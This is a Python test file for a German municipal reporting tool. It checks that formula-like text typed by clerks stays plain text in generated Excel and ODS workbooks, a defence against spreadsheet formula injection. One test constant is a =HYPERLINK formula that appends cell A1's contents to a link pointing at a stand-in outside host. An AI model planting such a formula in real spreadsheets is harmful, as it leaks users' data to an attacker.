"""No formula from data: every workbook we write keeps text that looks like a formula as text."""

from __future__ import annotations

import zipfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from parthe_reports import xlsx_text
from parthe_reports.validate.workbook import check_file
from parthe_reports.workbooks.feedback import RESULT_SHEET, write_annotated_copy
from tests import hostile_files as hf
from tests.workbook_factory import REGION, cell, municipal, row

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"Bitte klicken")'
# Text a clerk could type: no XML-illegal control characters (openpyxl refuses those anyway).
_TEXT = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
    max_size=30,
)
FORMULA_LIKE = st.builds(lambda p, t: p + t, st.sampled_from(xlsx_text.DANGEROUS), _TEXT)


def _formulas(path: Path) -> list[str]:
    """Sheet parts of ``path`` that contain a formula element."""
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(values=st.lists(FORMULA_LIKE, min_size=1, max_size=5))
def test_writer_keeps_formula_like_text_as_text(tmp_path: Path, values: list[str]) -> None:
    """It writes strings starting with = + - @ tab CR as string cells, in all three ways."""
    wb = Workbook()
    ws = wb.active
    for c, v in enumerate(values, start=1):
        xlsx_text.put(ws, 1, c, v)
    xlsx_text.append(ws, values)
    wo = Workbook(write_only=True)
    wo_ws = wo.create_sheet("wo")
    wo_ws.append([xlsx_text.text_cell(wo_ws, v) for v in values])
    wb.save(tmp_path / "normal.xlsx")
    wo.save(tmp_path / "writeonly.xlsx")
    assert _formulas(tmp_path / "normal.xlsx") == _formulas(tmp_path / "writeonly.xlsx") == []
    for name in ("normal.xlsx", "writeonly.xlsx"):
        for r in load_workbook(tmp_path / name).worksheets[0].iter_rows():
            for c in r:
                assert c.data_type == "s", (name, c.coordinate, c.value)


def test_plain_openpyxl_would_write_a_formula(tmp_path: Path) -> None:
    """It shows what the helper prevents: a bare assignment of „=…“ is a live formula."""
    wb = Workbook()
    wb.active["A1"] = HYPERLINK
    wb.save(tmp_path / "bare.xlsx")
    assert _formulas(tmp_path / "bare.xlsx") == ["xl/worksheets/sheet1.xml"]


def test_feedback_copy_keeps_the_clerks_text(tmp_path: Path) -> None:
    """It lists a typed =HYPERLINK(…) in the Prüfergebnis as text, not as a formula."""
    src = municipal(tmp_path / "BRA.xlsx", {"measures": [row("measures", cost_total=HYPERLINK)]})
    book = check_file(src, REGION)
    assert any(f.value == HYPERLINK for f in book.findings)
    out = write_annotated_copy(book, src, tmp_path / "copy.xlsx")
    assert _formulas(out) == []
    ws = load_workbook(out)[RESULT_SHEET]
    hits = [c for r in ws.iter_rows() for c in r if c.value == HYPERLINK]
    assert hits and all(c.data_type == "s" for c in hits)
    measures = load_workbook(out)["Maßnahmen"]
    assert measures[cell("measures", "cost_total")].data_type == "s"


def test_ods_copy_keeps_text_starting_with_equals(tmp_path: Path) -> None:
    """It copies an .ods text cell „=SUMME(1;2)“ as text into the .xlsx copy."""
    text = '<table:table-cell office:value-type="string"><text:p>=SUMME(1;2)</text:p></table:table-cell>'
    src = hf.ods(tmp_path / "BRA.ods", f"<table:table-row>{text}{hf.ODS_CELL}</table:table-row>")
    out = write_annotated_copy(check_file(src, REGION), src, tmp_path / "BRA_Rueckmeldung.xlsx")
    assert _formulas(out) == []
    ws = load_workbook(out)["Maßnahmen"]
    assert (ws["A1"].value, ws["A1"].data_type) == ("=SUMME(1;2)", "s")
    assert (ws["B1"].value, ws["B1"].data_type) == ("x", "s")


def test_template_keeps_formula_like_text(tmp_path: Path) -> None:
    """It writes a pre-filled workbook whose measure title starts with = + - @ as text."""
    titles = ["=1+1", "+49 341 000", "-Rest", "@Verwaltung"]
    rows = {
        "measures": [
            row("measures", measure_id=f"M-BRA-0{i}", title=t) for i, t in enumerate(titles, 1)
        ]
    }
    path = municipal(tmp_path / "BRA.xlsx", rows)
    assert _formulas(path) == []
    ws = load_workbook(path)["Maßnahmen"]
    col = cell("measures", "title").rstrip("0123456789")
    got = [(ws[f"{col}{r}"].value, ws[f"{col}{r}"].data_type) for r in range(2, 6)]
    assert got == [(t, "s") for t in titles]
